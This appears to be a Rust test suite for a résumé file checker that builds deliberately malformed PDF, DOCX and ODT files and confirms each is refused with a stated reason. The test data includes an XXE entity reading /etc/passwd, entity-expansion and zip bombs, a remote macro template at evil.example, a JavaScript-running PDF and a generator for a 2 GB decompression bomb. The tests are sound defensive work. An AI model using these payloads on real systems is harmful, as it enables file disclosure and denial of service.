//! Files made to be wrong in one way each.

use careercenter::resume::{Kind, Refusal};

use super::{outcome, word};
use crate::support::document::{archive, docx, docx_parts, odt, pdf, pdf_of};

const TEXT: &str = "Jane Doe, CPC\nOutpatient coder, 4 years";

#[test]
fn what_is_right_is_read() {
    for (bytes, kind) in [(pdf(TEXT), Kind::Pdf), (docx(TEXT), Kind::Docx), (odt(TEXT), Kind::Odt)]
    {
        let reading = outcome(&bytes).0.expect("it is right");
        assert_eq!(reading.kind, kind);
        let lines: Vec<&str> = reading.text.lines().filter(|line| !line.is_empty()).collect();
        assert_eq!(lines, TEXT.lines().collect::<Vec<_>>(), "{kind:?}");
    }
    let scan = outcome(&pdf("")).0.expect("a scan is taken");
    assert_eq!((scan.kind, scan.text.as_str()), (Kind::Pdf, ""));
    assert!(outcome(&pdf_of(50, TEXT, "")).0.is_ok(), "50 pages are not too many");
}

#[test]
fn what_is_wrong_is_refused_and_the_reason_said() {
    for (name, bytes, expected) in wrong() {
        let (answer, _) = outcome(&bytes);
        assert_eq!(answer, Err(expected), "{name}: {}", word(&answer));
    }
}

fn wrong() -> Vec<(&'static str, Vec<u8>, Refusal)> {
    let elf = std::fs::read(super::PROGRAM).expect("our own program can be read");
    let with = |name: &'static str, bytes: &[u8]| {
        let mut parts = docx_parts(TEXT);
        parts.retain(|(known, _)| *known != name);
        parts.push((name, bytes.to_vec()));
        archive(&parts)
    };
    let many: Vec<(String, Vec<u8>)> =
        (0..1_000).map(|n| (format!("word/part{n}.xml"), b"<a/>".to_vec())).collect();
    let many =
        docx_parts(TEXT).into_iter().map(|(name, bytes)| (name.to_owned(), bytes)).chain(many);
    let main = "word/document.xml";
    let declared = |dtd: &str| {
        format!("<?xml version=\"1.0\"?>{dtd}<w:document><w:p><w:t>&x;</w:t></w:p></w:document>")
    };
    let macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let template = "<Relationships><Relationship Type=\"a/attachedTemplate\" \
                    Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>";
    let mut locked = docx(TEXT);
    set_flag(&mut locked, 1);
    let encrypt = "/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 \
                   /O <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> \
                   /U <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> >> \
                   /ID [<00> <00>]";
    let run = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >>";
    vec![
        ("nothing", Vec::new(), Refusal::Empty),
        ("a renamed program", elf[..4 << 20].to_vec(), Refusal::Program),
        ("a page", b"<!DOCTYPE html><script>alert(1)</script>".to_vec(), Refusal::Other),
        ("a bomb", with("word/media/image1.png", &vec![0; 60 << 20]), Refusal::Bomb),
        ("a small bomb", with("word/styles.xml", &vec![b' '; 4 << 20]), Refusal::Bomb),
        ("1 000 parts", archive(&many.collect::<Vec<_>>()), Refusal::Bomb),
        (
            "a nested archive",
            archive(&[("a.zip", archive(&[("b", vec![0; 1 << 20])]))]),
            Refusal::Other,
        ),
        ("a program inside", with("word/media/image1.png", b"MZ\x90\x00"), Refusal::Smuggled),
        ("an unknown object", with("word/embeddings/oleObject1.bin", b"x"), Refusal::Smuggled),
        ("an archive with a password", locked, Refusal::Locked),
        ("macros", with("word/vbaProject.bin", b"\xD0\xCF\x11\xE0"), Refusal::Active),
        ("macros by type", with("[Content_Types].xml", macros.as_bytes()), Refusal::Active),
        (
            "a foreign template",
            with("word/_rels/settings.xml.rels", template.as_bytes()),
            Refusal::Outside,
        ),
        ("XXE", with(main, declared(XXE).as_bytes()), Refusal::Outside),
        ("XXE elsewhere", with("word/styles.xml", declared(XXE).as_bytes()), Refusal::Outside),
        ("laughs", with(main, declared(LAUGHS).as_bytes()), Refusal::Outside),
        ("XXE in UTF-16", with(main, &utf16(&declared(XXE))), Refusal::Outside),
        ("an unknown entity", with(main, declared("").as_bytes()), Refusal::Damaged),
        ("broken XML", with(main, b"<w:document><w:p>"), Refusal::Damaged),
        ("no body", archive(&docx_parts(TEXT)[..2]), Refusal::Damaged),
        ("a table", with("[Content_Types].xml", b"<Types>spreadsheetml</Types>"), Refusal::Other),
        ("an ODT with scripts", odt_with("Basic/Standard/Module1.xml", b"<a/>"), Refusal::Active),
        ("an ODT with a password", odt_with(MANIFEST, LOCKED.as_bytes()), Refusal::Locked),
        ("10 000 pages", pdf_of(10_000, TEXT, ""), Refusal::TooLong),
        ("a PDF with a password", pdf_of(1, TEXT, encrypt), Refusal::Locked),
        (
            "a PDF that runs",
            replaced(&pdf(TEXT), "<< /Type /Catalog /Pages 2 0 R", run),
            Refusal::Active,
        ),
        ("a PDF of nothing", b"%PDF-1.7\n%%EOF\n".to_vec(), Refusal::Damaged),
        ("a PDF without pages", pdf_of(0, TEXT, ""), Refusal::Damaged),
    ]
}

const XXE: &str = "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
const LAUGHS: &str = "<!DOCTYPE w [<!ENTITY y \"ha\"><!ENTITY x \"&y;&y;&y;&y;\">]>";
const MANIFEST: &str = "META-INF/manifest.xml";
const LOCKED: &str =
    "<m:manifest xmlns:m=\"m\"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>";

fn odt_with(name: &str, bytes: &[u8]) -> Vec<u8> {
    let media_type = b"application/vnd.oasis.opendocument.text".to_vec();
    let mut parts = vec![
        ("mimetype", media_type),
        ("content.xml", b"<o:t xmlns:o=\"o\"/>".to_vec()),
        (MANIFEST, b"<m:manifest xmlns:m=\"m\"/>".to_vec()),
    ];
    parts.retain(|(known, _)| *known != name);
    parts.push((name, bytes.to_vec()));
    archive(&parts)
}

fn utf16(text: &str) -> Vec<u8> {
    [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

fn replaced(pdf: &[u8], from: &str, to: &str) -> Vec<u8> {
    // The catalog is the first object: only what follows it moves, and those are found by search.
    let text = String::from_utf8(pdf.to_vec()).expect("ours are plain").replace(from, to);
    let grown = to.len() - from.len();
    let mut out = String::new();
    for line in text.lines() {
        match line.strip_suffix(" 00000 n ").and_then(|at| at.parse::<usize>().ok()) {
            Some(at) if at > 9 => out.push_str(&format!("{:010} 00000 n ", at + grown)),
            _ => out.push_str(line),
        }
        out.push('\n');
    }
    let start = out.find("xref\n").expect("a table").to_string();
    let (head, _) = out.split_once("startxref").expect("an end");
    format!("{head}startxref\n{start}\n%%EOF\n").into_bytes()
}

/// Says of the first entry, in both of its headers, that it is encrypted.
fn set_flag(archive: &mut [u8], flag: u8) {
    for (magic, at) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let header = archive.windows(4).position(|window| window == magic).expect("a header");
        archive[header + at] |= flag;
    }
}

#[test]
fn whatever_is_cut_off_is_refused_or_read_but_never_worse() {
    for whole in [pdf_of(5, TEXT, ""), docx(TEXT), odt(TEXT)] {
        for tenth in 0..10 {
            let (answer, _) = outcome(&whole[..whole.len() * tenth / 10]);
            match answer {
                Err(Refusal::Empty | Refusal::Damaged | Refusal::Other) => {}
                other => panic!("{tenth} tenths: {}", word(&other)),
            }
        }
    }
}

#[test]
fn a_file_that_eats_memory_ends_with_its_process() {
    let (answer, took) = outcome(&swelling_pdf(2_000));
    println!("a PDF that unpacks to 2 GB: {} after {took:?}", word(&answer));
    assert!(matches!(answer, Err(Refusal::Unreadable | Refusal::Damaged)), "{}", word(&answer));
}

/// A PDF whose objects lie in a stream that unpacks to so many megabytes.
fn swelling_pdf(megabytes: usize) -> Vec<u8> {
    use std::io::Write;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(&[]).expect("memory takes bytes");
    packer.flush().expect("memory takes bytes");
    let head = packer.get_ref().len();
    packer.write_all(&vec![b' '; 1 << 20]).expect("memory takes bytes");
    packer.flush().expect("memory takes bytes");
    // Between two flushes lies a whole number of bytes that says the same however often it comes.
    let packed = packer.get_ref().clone();
    let (start, again) = packed.split_at(head);
    let stream = [start, &again.repeat(megabytes)].concat();
    let mut pdf = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n".to_vec();
    let at = pdf.len();
    let head = format!(
        "3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        stream.len()
    );
    pdf.extend_from_slice(head.as_bytes());
    pdf.extend_from_slice(&stream);
    pdf.extend_from_slice(b"\nendstream\nendobj\n");
    let table = pdf.len();
    let tail = format!(
        "xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000000 65535 f \n{at:010} 00000 n \n\
         trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n"
    );
    pdf.extend_from_slice(tail.as_bytes());
    pdf
}
